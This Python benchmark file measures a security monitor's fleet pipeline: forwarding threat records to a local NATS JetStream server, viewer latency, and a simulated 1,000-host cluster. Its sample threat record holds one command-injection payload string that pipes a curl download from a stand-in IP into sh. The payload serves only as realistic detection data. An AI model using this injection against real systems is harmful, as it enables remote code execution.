"""`kgmon bench --fleet`: the fleet's figures on loopback (docs/fleet.md).

1. Forward rate: `kgmon forward`'s Forwarder, in this process, sending a history of N
   threats to a local single-node nats-server until every one is acknowledged; twice
   (the figure moves with the machine's load), each beside the floor in the same run:
   the same N messages, encoded beforehand, published as the forwarder publishes them
   (publish.py's fast-ingest batches, the same window; what the client and the server
   cost without the history and the encoding).
2. Publish -> fleet viewer latency: fleet messages published (as the forwarder does)
   at a steady rate, read by a viewer's durable consumer (viewer.follow) in this
   process; latency = received - published, same clock.
3. A simulated fleet: 1,000 hosts at 10 threats/s each from one process into a
   three-node cluster with a replicas=3 stream: the rate kept, and the ack latency.

Servers and files live in a temporary folder, removed at the end.
"""

from __future__ import annotations

import asyncio
import shutil
import tempfile
import time
from pathlib import Path

from kindlyguard_monitor.fleet import message, subjects
from kindlyguard_monitor.fleet.connect import Options, ensure_stream
from kindlyguard_monitor.fleet.forwarder import DEFAULT_WINDOW, READ_MAX, Forwarder
from kindlyguard_monitor.fleet.publish import FastBatch, error_sentence
from kindlyguard_monitor.fleet.wire import Wire
from kindlyguard_monitor.fleet.localserver import Cluster, NatsServer
from kindlyguard_monitor.history.records import StoredThreat, stored_threat


def _server_cpu_s(*servers: NatsServer) -> float:
    """CPU seconds the nats-server processes used so far (user + system)."""
    import psutil

    return sum(sum(psutil.Process(srv.proc.pid).cpu_times()[:2]) for srv in servers if srv.proc is not None)


def _pct(values: list[float], p: float) -> float:
    if not values:
        return float("nan")
    s = sorted(values)
    return s[min(len(s) - 1, int(p / 100 * len(s)))]


def _make_history(path: Path, n: int) -> None:
    from kindlyguard_monitor import _ring
    from kindlyguard_monitor.demo.threats import ThreatGenerator  # realistic text
    from kindlyguard_monitor.history.store import HistoryStore
    from kindlyguard_monitor.event import from_ring
    from kindlyguard_monitor.transport.items import Batch
    from kindlyguard_monitor.vocabulary import Transport

    gen = ThreatGenerator(seed=16)
    now = time.time_ns() // 1000
    store = HistoryStore(path).start()
    store.wait_ready(60)
    for start in range(0, n, 1000):
        events = []
        for seq in range(start, min(n, start + 1000)):
            t = gen.next()
            events.append(_ring.Event((seq, 0, 0, now + seq, t.threat_type, t.severity, t.blocked, 0, t.source,
                                       t.details)))
        store.submit([Batch(Transport.SHM, 0x16, from_ring(events, 0x16))])
    store.close(120)


def _reset_cursor(hist: Path) -> None:
    """Forward the whole history again (each run under its own host name, so no id repeats)."""
    import sqlite3

    conn = sqlite3.connect(hist)
    try:
        conn.execute("DROP TABLE IF EXISTS fleet_forward")
        conn.commit()
    finally:
        conn.close()


def _sample(seq: int, now_us: int) -> StoredThreat:
    """A realistic threat as the history would return it (a row as SELECT_COLUMNS reads it)."""
    key = (0x16).to_bytes(8, "big") + seq.to_bytes(8, "big")
    return stored_threat((seq + 1, key, now_us, 4, 1 + seq % 4, seq % 2, 0, "mcp:tools/call:shell.exec",
                          "Command injection: \"; curl http://203.0.113.7/x | sh\" in argument 2 of shell.exec",
                          "shm", "0000000000000016", seq, now_us))


async def _forward_rate(url: str, hist: Path, n: int, host: str) -> dict:
    fwd = Forwarder(hist, Options((url,), name="kgmon bench"), host, window=DEFAULT_WINDOW)
    cpu, wall = time.process_time(), time.perf_counter()
    done = await fwd.run(asyncio.Event(), until_idle=True)
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    import nats

    nc = await nats.connect(url)
    state = (await nc.jetstream().stream_info(subjects.STREAM)).state
    await nc.close()
    return {"threats": n, "acknowledged": fwd.stats.acked, "all_acknowledged": done, "seconds": round(wall, 3),
            "rate_per_s": round(fwd.stats.acked / wall), "cpu_us_per_threat": round(cpu / max(1, n) * 1e6, 1),
            "stored_bytes_per_threat": round(state.bytes / max(1, state.messages))}


async def _floor(url: str, hist: Path, host: str) -> dict:
    """The history's messages, encoded beforehand (under another host name, so no id repeats),
    published as the forwarder publishes them (fast-ingest batches, DEFAULT_WINDOW waiting at most):
    the client's and the server's share of a forwarded threat."""
    import sqlite3

    import nats

    from kindlyguard_monitor.fleet import outbox

    conn = sqlite3.connect(hist)
    try:
        enc = message.ThreatEncoder(host, "bench")
        outs = [(enc.encode(r), r[0], 0) for r in outbox.threat_rows_after(conn, 0, 1 << 30)]
    finally:
        conn.close()
    n = len(outs)
    nc = await nats.connect(url)
    pub = FastBatch(nc, DEFAULT_WINDOW)
    await pub.start()
    cpu, wall = time.process_time(), time.perf_counter()
    sent = 0
    while sent < n or pub.busy:
        room = pub.room()
        if sent < n and room > 0:
            step = outs[sent:sent + min(room, READ_MAX)]
            sent += await pub.send(step, last=sent + len(step) >= n)
        pub.take_acked()
        if pub.problem or pub.unsupported:
            raise RuntimeError(pub.problem or pub.unsupported)
        if pub.busy and (sent >= n or pub.room() <= 0):
            await pub.wait(0.05)
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    await nc.close()
    return {"messages": n, "rate_per_s": round(n / wall), "cpu_us_per_message": round(cpu / n * 1e6, 1)}


async def _latency(url: str, rate: int, seconds: float) -> dict:
    import nats

    from kindlyguard_monitor.fleet.viewer import follow

    opts = Options((url,), name="kgmon bench")
    stop = asyncio.Event()
    lat: list[float] = []
    total = int(rate * seconds)

    async def view():
        async for item in follow(opts, "bench-viewer", stop, subjects.host_filter("bench-latency")):
            if isinstance(item, message.FleetThreat):
                lat.append((time.time_ns() // 1000 - item.timestamp_unix_us) / 1000)
                if len(lat) >= total:
                    stop.set()

    viewer = asyncio.create_task(view())
    await asyncio.sleep(0.5)  # the consumer exists before the first publish
    nc = await nats.connect(url)
    acks = _Pipelined(nc)
    await acks.start()
    start = time.perf_counter()
    for i in range(total):
        due = start + i / rate
        delay = due - time.perf_counter()
        if delay > 0:
            await asyncio.sleep(delay)
        t = _sample(i, time.time_ns() // 1000)
        await acks.publish([(message.threat_message("bench-latency", "bench", i.to_bytes(16, "big"), t), i, 0)])
    try:
        await asyncio.wait_for(viewer, seconds + 20)
    except asyncio.TimeoutError:
        stop.set()
    await nc.close()
    return {"rate_per_s": rate, "threats": total, "received": len(lat), "p50_ms": round(_pct(lat, 50), 2),
            "p99_ms": round(_pct(lat, 99), 2), "max_ms": round(max(lat), 2) if lat else None}


class _Pending:
    __slots__ = ("acked_at", "result")

    def __init__(self):
        self.acked_at, self.result = 0.0, None


class _Pipelined:
    """The load generator's publishes: each with a reply subject of its own, many at once, each
    acknowledged on its own (result True, or the refusal). Not the forwarder's way (publish.py): a
    simulated fleet is many hosts, each with a few threats a second, and order between hosts is free."""

    def __init__(self, nc):
        self.nc, self.wire, self.waiting, self.n = nc, Wire(nc), {}, 0
        self.prefix = nc.new_inbox() + "."

    async def start(self) -> None:
        await self.nc.subscribe(self.prefix + "*", cb=self._on_ack, pending_msgs_limit=1 << 20)

    async def publish(self, items: list) -> list[_Pending]:
        out, msgs = [], []
        for m, _, _ in items:
            self.n += 1
            p = self.waiting[str(self.n)] = _Pending()
            out.append(p)
            msgs.append((m.subject, f"{self.prefix}{self.n}", m.headers, m.body))
        await self.wire.send(msgs)
        return out

    async def _on_ack(self, msg) -> None:
        p = self.waiting.pop(msg.subject[len(self.prefix):], None)
        if p is not None:
            p.acked_at = time.perf_counter()
            refused = error_sentence(msg.data, msg.headers)  # read as the forwarder reads a refusal
            p.result = True if refused is None else refused[0]


async def _fleet(urls: str, hosts: int, per_host_rate: float, seconds: float) -> dict:
    import nats

    nc = await nats.connect(servers=urls.split(","))
    js = nc.jetstream(timeout=10)
    deadline = time.monotonic() + 30
    while "created" not in (answer := await ensure_stream(js, replicas=3)) and "is there" not in answer:
        if time.monotonic() > deadline:
            raise RuntimeError(answer)
        await asyncio.sleep(0.3)
    acks = _Pipelined(nc)
    await acks.start()
    names = [f"ws{i:05d}" for i in range(hosts)]
    rate = hosts * per_host_rate
    total = int(rate * seconds)
    pending, lat, refused = [], [], 0
    start = time.perf_counter()
    tick = 0.01
    sent = 0
    while sent < total:
        due = int(min(total, (time.perf_counter() - start) * rate + rate * tick))
        step = []
        while sent < due:
            host = names[sent % hosts]
            t = _sample(sent // hosts, time.time_ns() // 1000)
            step.append((message.threat_message(host, "bench", sent.to_bytes(16, "big"), t), sent, 0))
            sent += 1
        at = time.perf_counter()
        pending.extend((at, p) for p in await acks.publish(step))
        await asyncio.sleep(tick)
    send_s = time.perf_counter() - start
    end = time.monotonic() + 30
    while any(p.result is None for _, p in pending) and time.monotonic() < end:
        await asyncio.sleep(0.05)
    for sent_at, p in pending:
        if p.result is True:
            lat.append((p.acked_at - sent_at) * 1000)
    done_s = time.perf_counter() - start
    refused = sum(1 for _, p in pending if isinstance(p.result, str))
    info = await js.stream_info(subjects.STREAM)
    await nc.close()
    return {"hosts": hosts, "per_host_rate": per_host_rate, "offered_per_s": rate, "seconds": seconds,
            "published": total, "stored": info.state.messages, "refused": refused,
            "sent_per_s": round(total / send_s), "acked_per_s": round(total / done_s)}


async def _ack_latency(urls: str) -> dict:
    """Ack latency of single publishes into the R3 stream (what one workstation waits per threat)."""
    import nats

    nc = await nats.connect(servers=urls.split(","))
    js = nc.jetstream(timeout=10)
    lat = []
    for i in range(300):
        t0 = time.perf_counter()
        await js.publish(subjects.threat_subject("ws-lat", 2), b"{}", headers={subjects.H_MSG_ID: f"lat-{i}"})
        lat.append((time.perf_counter() - t0) * 1000)
    await nc.close()
    return {"p50_ms": round(_pct(lat, 50), 2), "p99_ms": round(_pct(lat, 99), 2)}


def measure_fleet(short: bool, progress) -> dict:
    folder = Path(tempfile.mkdtemp(prefix="kgmon-fleet-bench-"))
    out: dict = {"short": short}
    try:
        server = NatsServer(folder / "single").start()
        try:
            n = 20_000 if short else 100_000
            hist = folder / "history.sqlite3"
            _make_history(hist, n)
            out["forward_runs"] = []
            for run in (1, 2):
                progress(f"forward rate, run {run} of 2: {n:,} threats to one local server, then the floor")
                _reset_cursor(hist)
                before = _server_cpu_s(server)
                fwd = asyncio.run(_forward_rate(server.url, hist, n, f"bench-host-{run}"))
                fwd["server_cpu_us_per_threat"] = round((_server_cpu_s(server) - before) / n * 1e6, 1)
                fwd["floor"] = asyncio.run(_floor(server.url, hist, f"bench-floor-{run}"))
                out["forward_runs"].append(fwd)
            out["forward"] = max(out["forward_runs"], key=lambda r: r["rate_per_s"])
            progress("publish -> fleet viewer latency at 1,000 threats/s")
            out["latency"] = asyncio.run(_latency(server.url, 1000, 2 if short else 5))
        finally:
            server.kill()
        cluster = Cluster(folder / "cluster").start()
        try:
            hosts, secs = 1000, (3 if short else 10)
            progress(f"simulated fleet: {hosts:,} hosts at 10 threats/s into a 3-node cluster (R3), {secs} s")
            before = _server_cpu_s(*cluster.nodes)
            out["fleet"] = asyncio.run(_fleet(cluster.urls, hosts, 10, secs))
            out["fleet"]["cluster_cpu_us_per_threat"] = round(
                (_server_cpu_s(*cluster.nodes) - before) / max(1, out["fleet"]["stored"]) * 1e6, 1)
            out["fleet"]["ack_latency"] = asyncio.run(_ack_latency(cluster.urls))
        finally:
            cluster.kill()
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return out


def render_fleet(out: dict) -> str:
    l, c = out["latency"], out["fleet"]
    lines = [f"fleet (NATS JetStream on loopback{', short' if out['short'] else ''})"]
    for i, f in enumerate(out["forward_runs"], 1):
        fl = f["floor"]
        lines += [
            f"  forward rate, run {i} (one host, file store, R1)  {f['rate_per_s']:>7,} threats/s  "
            f"({f['threats']:,} in {f['seconds']} s, {f['cpu_us_per_threat']} µs of CPU each, the server "
            f"{f['server_cpu_us_per_threat']} µs; all acknowledged: {f['all_acknowledged']}; "
            f"{f['stored_bytes_per_threat']} bytes stored per threat)",
            f"    floor: the same messages encoded beforehand   {fl['rate_per_s']:>7,} messages/s  "
            f"({fl['cpu_us_per_message']} µs of CPU each; forwarding is {f['rate_per_s'] / fl['rate_per_s']:.0%} of it)",
        ]
    return "\n".join(lines + [
        f"  publish -> fleet viewer at {l['rate_per_s']:,}/s      p50 {l['p50_ms']} ms, p99 {l['p99_ms']} ms, "
        f"max {l['max_ms']} ms ({l['received']:,} of {l['threats']:,} received)",
        f"  simulated fleet: {c['hosts']:,} hosts x {c['per_host_rate']:g}/s into 3 nodes (R3)  "
        f"offered {c['offered_per_s']:,.0f}/s, sent {c['sent_per_s']:,}/s, acknowledged {c['acked_per_s']:,}/s; "
        f"{c['stored']:,} stored of {c['published']:,}, {c['refused']} refused; the three nodes' CPU "
        f"{c['cluster_cpu_us_per_threat']} µs per threat",
        f"  one publish's ack from the R3 stream      p50 {c['ack_latency']['p50_ms']} ms, "
        f"p99 {c['ack_latency']['p99_ms']} ms",
    ])
